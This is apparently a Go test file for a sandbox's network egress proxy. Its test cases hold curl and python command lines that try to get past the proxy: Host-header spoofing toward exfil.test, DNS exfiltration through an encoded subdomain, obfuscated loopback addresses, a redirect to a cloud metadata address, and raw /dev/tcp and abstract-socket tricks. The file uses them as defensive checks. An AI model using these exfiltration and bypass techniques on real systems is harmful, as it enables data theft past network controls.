package sandbox

import (
	"context"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"os"
	"os/exec"
	"strings"
	"testing"

	v1 "harness/contract/harness/v1"
	"harness/executor/sandbox/egress"
)

// wide runs a line with a proxy that lets allowed.test through, to a server on loopback.
func (b *box) wide(t *testing.T, line string) (string, []*v1.Connection) {
	var p *egress.Proxy
	_, out := b.sh(t, t.Context(), line, func(c *Command) {
		c.Env = append(c.Env, fmt.Sprintf("http_proxy=http://127.0.0.1:%d", ProxyPort), "no_proxy=127.0.0.1")
		c.Network = func(l net.Listener, _ func(bool)) {
			p = egress.Serve(l, egress.Config{
				Decide: func(host string) *v1.Decision {
					if host == "allowed.test" || host == "private.test" {
						return &v1.Decision{Verdict: v1.Decision_allow}
					}
					return &v1.Decision{Verdict: v1.Decision_deny, Reason: "no rule"}
				},
				Private: []netip.Prefix{netip.MustParsePrefix("127.0.0.1/32")},
				Resolve: func(_ context.Context, host string) ([]netip.Addr, error) {
					if host == "private.test" {
						return []netip.Addr{netip.MustParseAddr("169.254.169.254")}, nil
					}
					return []netip.Addr{netip.MustParseAddr("127.0.0.1")}, nil
				},
			})
		}
	})
	if p == nil {
		t.Fatal("no listener came")
	}
	list, _ := p.Close()
	return out, list
}

func TestNetwork(t *testing.T) {
	if _, err := exec.LookPath("curl"); err != nil {
		t.Skip("no curl")
	}
	asUsers(t, func(t *testing.T) {
		b := newBox(t)
		if !b.has("network_proxy") {
			t.Fatal("no network_proxy here")
		}
		server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, q *http.Request) {
			if q.URL.Path == "/away" {
				http.Redirect(w, q, "http://private.test/", http.StatusFound)
				return
			}
			fmt.Fprintf(w, "host %s\n", q.Host)
		}))
		defer server.Close()
		port := server.URL[strings.LastIndex(server.URL, ":"):]
		const code = "curl -s -m 5 -o /dev/null -w '%{http_code}' "
		for _, c := range []struct{ name, line, want, refused string }{
			{"S-sbx-015", code + "http://allowed.test" + port + "/", "200", ""},
			{"S-sbx-013", code + "-H 'Host: exfil.test' http://allowed.test" + port + "/", "403", "allowed.test"},
			{"S-sbx-013 in a tunnel", code + "--proxytunnel -H 'Host: exfil.test' http://allowed.test" + port + "/", "403", "allowed.test"},
			{"S-sbx-013 tunnel", "curl -s --proxytunnel -H 'Host: exfil.test' http://exfil.test" + port + "/; echo $?", "56\n", "exfil.test"},
			{"S-cmd-131", code + "http://allowed.test@exfil.test/x", "403", "exfil.test"},
			{"S-sbx-014", "for a in 2130706433 '[::ffff:127.0.0.1]' 0x7f.1; do curl -s -m 3 http://$a" + port + "/ | grep '^host'; curl -s -m 3 --noproxy '' http://$a" + port + "/ | grep '^host'; done; echo end", "end\n", "127.0.0.1"},
			{"socks", "curl -s --proxy socks5h://127.0.0.1:3128 http://allowed.test" + port + "/", "host allowed.test" + port + "\n", ""},
			{"socks refused", "curl -s --proxy socks5h://127.0.0.1:3128 http://exfil.test" + port + "/ || echo no", "no\n", "exfil.test"},
			{"past the proxy", "curl -s -m 3 --noproxy '*' http://127.0.0.1" + port + "/ || echo no", "no\n", ""},
			{"S-sbx-011", "python3 -c \"import socket;socket.getaddrinfo('c2VjcmV0.exfil.test',80)\" 2>/dev/null || echo no", "no\n", ""},
			{"UDP and IPv6", `python3 -c "
import socket
for f,a in ((socket.AF_INET,('192.0.2.1',53)),(socket.AF_INET6,('2001:db8::1',53))):
  try: socket.socket(f,socket.SOCK_DGRAM).sendto(b'x',a); print('OUT')
  except OSError: print('no')
"`, "no\nno\n", ""},
			{"redirect", code + "-L http://allowed.test" + port + "/away", "403", "private.test"},
			{"half open", "exec 3<>/dev/tcp/127.0.0.1/3128; printf 'GET http://allo' >&3; echo end", "end\n", ""},
		} {
			t.Run(c.name, func(t *testing.T) {
				line := c.line
				if strings.Contains(line, "/dev/tcp") {
					line = "exec bash -c \"" + line + "\""
				}
				out, list := b.wide(t, line)
				if out != c.want {
					t.Errorf("printed %q, want %q", out, c.want)
				}
				refused := ""
				for _, x := range list {
					if x.Refused != nil {
						refused = x.Host
					} else if x.Address != "127.0.0.1" || x.ReceivedBytes == 0 || x.SentBytes == 0 {
						t.Errorf("recorded as %v", x)
					}
				}
				if refused != c.refused {
					t.Errorf("refused %q, want %q", refused, c.refused)
				}
			})
		}
	})
}

// A step without network tries the listener of one that has it, at the same
// time; an abstract socket is a way of the network namespace too.
func TestNetworkOfAnother(t *testing.T) {
	asUsers(t, func(t *testing.T) {
		b := newBox(t)
		in, feed, err := os.Pipe()
		if err != nil {
			t.Fatal(err)
		}
		defer in.Close()
		ready, say, err := os.Pipe()
		if err != nil {
			t.Fatal(err)
		}
		defer ready.Close()
		got := make(chan net.Listener, 1)
		done := make(chan error)
		go func() {
			_, err := b.Run(t.Context(), Command{Argv: []string{"python3", "-c", "import socket\ns=socket.socket(socket.AF_UNIX);s.bind('\\0door');s.listen()\nprint('up',flush=True)\ninput()"}, Dir: b.ws,
				Env: []string{"PATH=/usr/local/bin:/usr/bin:/bin", "HOME=" + b.home}, Output: say, Stdin: in, Network: func(l net.Listener, _ func(bool)) { got <- l }})
			say.Close()
			done <- err
		}()
		first := make([]byte, 2)
		if _, err := io.ReadFull(ready, first); err != nil || string(first) != "up" {
			t.Fatalf("%q, %v", first, err)
		}
		defer (<-got).Close()
		_, out := b.sh(t, t.Context(), `python3 -c "
import socket
for f,a in ((socket.AF_INET,('127.0.0.1',3128)),(socket.AF_UNIX,'\\0door')):
  try: socket.socket(f).connect(a); print('IN')
  except OSError: print('no')
"`, nil)
		if out != "no\nno\n" {
			t.Errorf("printed %q", out)
		}
		feed.Write([]byte("\n"))
		feed.Close()
		if err := <-done; err != nil {
			t.Error(err)
		}
	})
}
